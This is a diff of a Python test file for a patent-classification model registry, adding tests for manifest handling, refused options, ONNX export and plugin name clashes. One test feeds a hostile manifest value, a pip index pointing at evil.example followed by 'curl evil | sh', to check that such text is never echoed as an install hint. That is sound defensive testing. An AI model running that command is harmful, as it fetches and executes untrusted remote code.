@@ -68,8 +68,15 @@ def test_an_unknown_kind_in_a_manifest_names_the_package_to_install(tmp_path, li
     doc["kind"] = "keywords"
     doc.setdefault("extra", {})["kind_package"] = "patentcpc-keywords"
     (folder / "manifest.json").write_text(json.dumps(doc))
-    with pytest.raises(ModelError, match="model kind 'keywords' is not installed: pip install patentcpc-keywords"):
+    with pytest.raises(ModelError, match=r"model kind 'keywords' is not installed: the folder says it comes from the "
+                                         r"package patentcpc-keywords \(pip install patentcpc-keywords\)"):
         registry.load_model(folder)
+    for hostile in ("evil --index-url http://evil.example/simple; curl evil | sh", {"a": 1}, "-e ."):
+        doc["extra"]["kind_package"] = hostile  # a folder is data: no command text from it is shown
+        (folder / "manifest.json").write_text(json.dumps(doc))
+        with pytest.raises(ModelError, match="unknown model kind 'keywords'") as err:
+            registry.load_model(folder)
+        assert "pip install" not in str(err.value)
     doc["extra"].pop("kind_package")
     (folder / "manifest.json").write_text(json.dumps(doc))
     with pytest.raises(ModelError, match="unknown model kind 'keywords' \\(known: linear, scheme"):
@@ -83,7 +90,7 @@ def test_a_saved_model_keeps_only_its_kinds_sections_of_the_config(tmp_path, tin
     registry.train_model(cfg, str(tiny_jsonl), None, tmp_path / "m")
     saved = yaml.safe_load((tmp_path / "m" / "config.yaml").read_text())
     assert {"data", "linear", "calibration", "model", "seed"} <= set(saved)
-    assert not {"transformer", "llm", "lora", "ensemble", "router"} & set(saved)
+    assert not {"transformer", "llm", "lora", "ensemble", "router", "options"} & set(saved)
 
 
 # ----------------------------------------------------------------------------- --resume, kind by kind
@@ -183,3 +190,56 @@ def test_a_setting_the_kind_cannot_use_is_refused_before_training(tmp_path, cli)
     res = cli("train", "--model", "scheme", "--output", out, "--set", "options.temperature=0.1")
     assert res.returncode == 2 and "options.temperature: a 'scheme' model takes no options" in res.stderr
     assert not out.exists()
+
+
+def test_the_inference_options_capability_is_what_the_model_class_accepts():
+    for kind in registry.kinds().values():
+        assert kind.can("inference_options") == kind.model_class().uses_inference_options, kind.name
+
+
+def test_a_kind_name_is_not_a_model_to_train(cli, tiny_jsonl, tmp_path):
+    for name, hint in (("linear", "train it with --model tfidf"), ("omikuji", "give a model folder"),
+                       ("transformer", "give a model folder")):
+        res = cli("train", "--model", name, "--data", tiny_jsonl, "--output", tmp_path / name)
+        assert res.returncode == 2 and len(res.lines) == 1, res.stderr
+        assert f"'{name}' is the name of a model kind" in res.stderr and hint in res.stderr
+        assert not (tmp_path / name).exists()
+
+
+def test_options_a_kind_would_ignore_are_refused_and_onnx_needs_an_exporting_kind(cli, tiny_jsonl, tmp_path):
+    model = tmp_path / "m"
+    assert cli("train", "--model", "tfidf", "--data", tiny_jsonl, "--output", model).returncode == 0
+    graph = tmp_path / "x.onnx"
+    graph.write_bytes(b"not a graph")
+    for option in (["--compile"], ["--token-budget", "999"], ["--device", "cpu"], ["--onnx", graph]):
+        res = cli("predict-batch", "--model", model, "--input", tiny_jsonl, "--output", tmp_path / "p.jsonl",
+                  *option)
+        assert res.returncode == 2 and len(res.lines) == 1, res.stderr
+        assert f"{option[0]}: a 'linear' model cannot" in res.stderr
+    assert not (tmp_path / "p.jsonl").exists()
+    with pytest.raises(ModelError, match="a 'linear' model cannot be exported to ONNX"):
+        registry.load_model(model, onnx_file=graph)
+
+
+def test_a_plugin_cannot_take_a_built_in_model_name_or_the_fallback(monkeypatch, caplog):
+    import importlib.metadata as md
+
+    class EP:
+        def __init__(self, name, kind):
+            self.name, self.value, self._kind = name, f"fake:{name}", kind
+
+        def load(self):
+            return self._kind
+
+    fakes = [EP("grab", registry.Kind(name="grab", names=("tfidf",), model="x:Y")),
+             EP("fall", registry.Kind(name="fall", fallback=True, model="x:Y")),
+             EP("fine", registry.Kind(name="fine", names=("fine",), model="x:Y"))]
+    monkeypatch.setattr(md, "entry_points", lambda group=None: fakes if group == registry.ENTRY_POINT_GROUP else [])
+    registry.kinds.cache_clear()
+    try:
+        found = registry.kinds()
+        assert "grab" not in found and "fall" not in found and "fine" in found
+        assert registry.model_names()["tfidf"] == "linear"
+        assert "already selects another kind" in caplog.text and "fallback" in caplog.text
+    finally:
+        registry.kinds.cache_clear()
